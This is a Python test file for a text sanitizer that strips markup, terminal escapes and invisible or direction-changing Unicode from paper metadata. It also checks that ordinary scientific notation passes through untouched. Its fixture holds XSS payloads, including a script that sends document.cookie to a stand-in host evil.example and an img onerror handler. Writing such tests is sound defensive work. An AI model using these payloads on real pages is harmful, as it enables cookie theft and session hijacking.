"""The cleaner every text field read from papers, pages and upstream APIs passes."""

from __future__ import annotations

import pytest

from functions.common.models import EvidenceQuote, ExtractedPaper, Paper
from functions.common.untrusted import clean_untrusted

HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script>"
    "\x1b[31mRed\x1b[0m <b>bold</b> <a href=\"https://evil.example\" onclick='x()'>link</a>"
    "\x00nul\x07bell\x08 \u202eevil\u202c \u2066isolated\u2069 zero\u200bwidth\ufeff "
    "<!-- hidden --><jats:p>jats</jats:p><img src=x onerror=alert(1)><style>p{}</style>\x1b]0;title\x07end"
)
FORBIDDEN = [
    "<",
    ">",
    "\x1b",
    "\x00",
    "\x07",
    "\x08",
    "\u202e",
    "\u202c",
    "\u2066",
    "\u2069",
    "\u200b",
    "\ufeff",
]


def assert_clean(text: str) -> None:
    for bad in FORBIDDEN:
        assert bad not in text, (bad, text)
    assert "script" not in text and "evil.example" not in text and "alert" not in text


def test_markup_escapes_and_invisible_characters_are_removed() -> None:
    cleaned = clean_untrusted(HOSTILE)
    assert cleaned == "Red bold link nulbell evil isolated zerowidth jats end"
    assert_clean(cleaned)
    assert clean_untrusted(cleaned) == cleaned  # idempotent: offsets of a cleaned quote stay valid


@pytest.mark.parametrize(
    "text",
    [
        "a < b and c > d",
        "a<b and c>d",
        "p<0.05 and q>1",
        "x<y",
        "F1 >= 0.9 when n<10",
        "line one\nline two",
        "Müller, Łukasz and 李雷",
        "mean ± sd, \u03b1 = 0.05, ≤ 3",
    ],
)
def test_scientific_text_is_left_alone(text: str) -> None:
    assert clean_untrusted(text) == text


def test_models_clean_every_text_field_they_are_given() -> None:
    paper = Paper(
        title=HOSTILE,
        url="https://example.org/x",
        abstract=HOSTILE,
        authors=[HOSTILE],
        venue=HOSTILE,
        source="x",
    )
    quote = EvidenceQuote(quote=HOSTILE, page=1, char_start=0, char_end=1, section=HOSTILE)
    extracted = ExtractedPaper(
        source_url="https://example.org/x",
        canonical_id="url:x",
        success=True,
        title=HOSTILE,
        authors=[HOSTILE],
        abstract=HOSTILE,
        key_findings=[HOSTILE],
        methodology=HOSTILE,
        citations=[HOSTILE],
        sections=[HOSTILE],
        venue=HOSTILE,
        evidence=[quote],
    )
    for text in [
        paper.title,
        paper.abstract or "",
        *paper.authors,
        paper.venue or "",
        quote.quote,
        quote.section or "",
        extracted.title,
        *extracted.authors,
        extracted.abstract,
        *extracted.key_findings,
        extracted.methodology,
        *extracted.citations,
        *extracted.sections,
        extracted.venue or "",
    ]:
        assert text == clean_untrusted(HOSTILE)
